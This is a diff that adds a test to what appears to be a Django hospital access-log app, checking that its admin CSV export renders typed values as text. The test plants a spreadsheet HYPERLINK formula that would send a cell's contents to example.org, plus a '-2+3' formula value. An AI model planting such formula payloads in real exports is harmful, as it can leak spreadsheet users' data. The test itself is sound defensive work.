@@ -53,3 +53,31 @@ def test_the_database_refuses_to_change_or_delete_a_log_row(client, wards):  # n
         AccessLog.objects.filter(pk=entry.pk).update(outcome="denied")
     with pytest.raises(DatabaseError), transaction.atomic():
         entry.delete()
+
+
+def test_the_csv_export_writes_no_formula(client):
+    """A name typed on a ward station reaches the export as it was typed:
+    a spreadsheet must read it as text, not run it."""
+    AccessLog.objects.create(
+        username='=HYPERLINK("http://example.org/?"&A1,"open")',
+        action=AccessLog.Action.STATION_OPEN,
+        target="-2+3",
+        outcome=AccessLog.Outcome.ALLOWED,
+    )
+    it = person("ivan", "it")
+    it.is_staff = it.is_superuser = True
+    it.save()
+    client.force_login(it)
+
+    response = client.post(
+        reverse("admin:accounts_accesslog_changelist"),
+        {
+            "action": "export_csv",
+            "_selected_action": list(AccessLog.objects.values_list("pk", flat=True)),
+        },
+    )
+
+    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
+    assert row["username"] == '\'=HYPERLINK("http://example.org/?"&A1,"open")'
+    assert row["target"] == "'-2+3"
+    assert row["action"] == "station_open"
